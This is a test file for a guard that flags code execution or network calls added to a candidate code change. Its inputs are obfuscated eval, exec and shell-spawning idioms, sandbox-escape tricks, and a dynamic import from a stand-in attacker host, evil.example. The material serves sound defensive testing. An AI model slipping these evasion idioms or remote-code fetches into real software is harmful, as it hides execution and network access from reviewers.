import { describe, expect, it } from 'vitest';
import { guard, rulesBroken } from '../../support/tamper.ts';

const SCRIPT_IMPORTS = `import { exec as run, spawn } from 'node:child_process';
import * as wire from 'net';
import web from 'axios';
import { total } from './till.js';
const { request: ask } = require('https');
`;
const PYTHON_IMPORTS = `import os as o
import subprocess
from subprocess import (call as c, Popen)
import socket as s
from till import total
`;

const script = (line: string) => ({
  file: 'src/a.js',
  before: `${SCRIPT_IMPORTS}function f(a) {\n  const b = a + 1;\n  return b;\n}\n`,
  after: `${SCRIPT_IMPORTS}function f(a) {\n  ${line}\n  const b = a + 1;\n  return b;\n}\n`,
});
const python = (line: string) => ({
  file: 'src/a.py',
  before: `${PYTHON_IMPORTS}\n\ndef f(a):\n    b = a + 1\n    return b\n`,
  after: `${PYTHON_IMPORTS}\n\ndef f(a):\n    ${line}\n    b = a + 1\n    return b\n`,
});
const SCRIPT_RUNS: readonly string[] = [
  'eval(a);',
  '(0, eval)(a);',
  'globalThis.eval(a);',
  'globalThis["ev" + "al"](a);',
  'globalThis[a](b);',
  'window[`eval`](a);',
  '\\u0065val(a);',
  '\\u{65}val(a);',
  'const { eval: g } = globalThis; g(a);',
  'const g = globalThis; g.eval(a);',
  'Reflect.get(globalThis, "ev" + "al")(a);',
  'new Function(a)();',
  'Function(a)();',
  '(() => {}).constructor(`return 1`)();',
  '"".constructor.constructor("return 1")();',
  '[]["constructor"]["constructor"]("return 1")();',
  'a.__proto__.constructor.constructor("x")();',
  'require("child_process").execSync(a);',
  'require("child_" + "process").execSync(a);',
  'require("\\x63hild_process").exec(a);',
  'module.require("child_process").exec(a);',
  'process.mainModule.require("child_process").exec(a);',
  'process.getBuiltinModule("child_process").exec(a);',
  'process.binding("spawn_sync");',
  'process["binding"](a);',
  'import("node:child_process").then((cp) => cp.exec(a));',
  'import(a);',
  'import("data:text/javascript,alert(1)");',
  'require(a);',
  'run(a);',
  'const r = run; r(a);',
  'spawn(a);',
  '[a].map(spawn);',
  'new Worker(a);',
  'import("vm").then((vm) => vm.runInThisContext(a));',
  'new WebAssembly.Module(a);',
  'setTimeout(a, 0);',
];
const SCRIPT_TALKS: readonly string[] = [
  'fetch(a);',
  'globalThis["fetch"](a);',
  'globalThis["fe\\x74ch"](a);',
  'const { fetch: g } = globalThis; g(a);',
  'new XMLHttpRequest();',
  'new WebSocket(a);',
  'navigator.sendBeacon(a);',
  'new EventSource(a);',
  'wire.connect(1, a);',
  'wire?.connect(1, a);',
  'web.post(a);',
  'web(a);',
  'ask(a);',
  'require("http").get(a);',
  'import("https://evil.example/x.js");',
  '$.ajax(a);',
  'new Image().src = a;',
  'Deno.connect(a);',
];
const PYTHON_RUNS: readonly string[] = [
  'eval(a)',
  'exec(a)',
  'ｅｖａｌ(a)',
  '𝐞𝐱𝐞𝐜(a)',
  '__import__("os").system(a)',
  'o.system(a)',
  'o.popen(a)',
  'getattr(o, "sys" "tem")(a)',
  'getattr(o, "sys" + "tem")(a)',
  'getattr(o, a)(a)',
  'from os import system as q; q(a)',
  'from os import popen; popen(a)',
  'import os; os.system(a)',
  'import os; os.execv(a, [])',
  'import posix; posix.system(a)',
  'subprocess.run(a)',
  'subprocess . run(a)',
  'c(a)',
  'Popen(a)',
  'q = c; q(a)',
  'import subprocess as q; q.run(a)',
  'import importlib; importlib.import_module(a)',
  '__builtins__["eval"](a)',
  'globals()["__builtins__"]["eval"](a)',
  'globals()[a](a)',
  '().__class__.__base__.__subclasses__()',
  'f.__globals__["x"]',
  'import sys; sys.modules["os"].system(a)',
  'import pickle; pickle.loads(a)',
  'import marshal; marshal.loads(a)',
  'import ctypes; ctypes.CDLL(a)',
  'import yaml; yaml.unsafe_load(a)',
  'compile(a, "", "exec")',
  'import builtins; builtins.eval(a)',
  'import multiprocessing',
  'import asyncio; asyncio.create_subprocess_shell(a)',
];
const PYTHON_TALKS: readonly string[] = [
  's.create_connection(a)',
  'import requests; requests.post(a)',
  'import requests as q; q.post(a)',
  'from requests import post as q; q(a)',
  'from urllib.request import urlopen as q; q(a)',
  'from urllib import request; request.urlopen(a)',
  'import urllib.request; urllib.request.urlopen(a)',
  'from socket import *',
  'import http.client',
  'from http import client',
  'import asyncio; asyncio.open_connection(a)',
  'import webbrowser; webbrowser.open(a)',
  'import smtplib',
];
/** What a rewrite may well bring. */
const HARMLESS: readonly (readonly [(line: string) => ReturnType<typeof script>, string])[] = [
  [script, 'const m = /a/.exec(a);'],
  [script, 'const c = new this.constructor(a);'],
  [script, 'const { request, port: q } = a;'],
  [script, 'const q = total([a]);'],
  [script, 'const q = a.socket.name + a["eval" + a];'],
  [script, 'const q = a.fetch(1);'],
  [script, 'const q = { fetch: 1, eval: 2 };'],
  [python, 'q = a.system'],
  [python, 'import platform; q = platform.system'],
  [python, 'q = dict(eval=1, socket=2)'],
  [python, 'q = total([a])'],
  [python, 'q = a["eval"]'],
  [python, 'import re; q = re.escape(a)'],
];

describe('running of code or programs that a candidate adds', () => {
  it.each(SCRIPT_RUNS)('is found in JavaScript: %s', async (line) => {
    expect(await rulesBroken(script(line))).toEqual(expect.arrayContaining([expect.stringMatching(/^added-(?:execution|wait)$/u)]));
  });

  it.each(PYTHON_RUNS)('is found in Python: %s', async (line) => {
    expect(await rulesBroken(python(line))).toContain('added-execution');
  });
});

describe('talk with the network that a candidate adds', () => {
  it.each(SCRIPT_TALKS)('is found in JavaScript: %s', async (line) => {
    expect(await rulesBroken(script(line))).toContain('added-network');
  });

  it.each(PYTHON_TALKS)('is found in Python: %s', async (line) => {
    expect(await rulesBroken(python(line))).toContain('added-network');
  });

  it.each(HARMLESS)('is not seen where there is none: %o %s', async (wrap, line) => {
    const rules = await rulesBroken(wrap(line));
    expect(rules.filter((rule) => rule === 'added-network' || rule === 'added-execution')).toEqual([]);
  });
});

describe('an effect that the words of the person seem to ask for', () => {
  it('is no finding, and is said', async () => {
    const change = { ...script('fetch(a); eval(a);'), instruction: 'process the request' };
    const { findings, says } = await guard(change);
    expect(findings.filter(({ rule }) => /network|execution/u.test(rule))).toEqual([]);
    expect(says).toContain('talks to the network now, by "fetch"');
    expect(says).toContain('runs code or programs now, by "eval"');
  });

  it('is said of a language without a grammar, too', async () => {
    const before = 'package a\n\nfunc f() int {\n\treturn 1\n}\n';
    const change = { file: 'src/a.go', before, after: before.replace('\treturn', '\thttp.Get("x")\n\treturn'), instruction: 'fetch it' };
    expect((await guard(change)).says).toContain('talks to the network');
  });
});
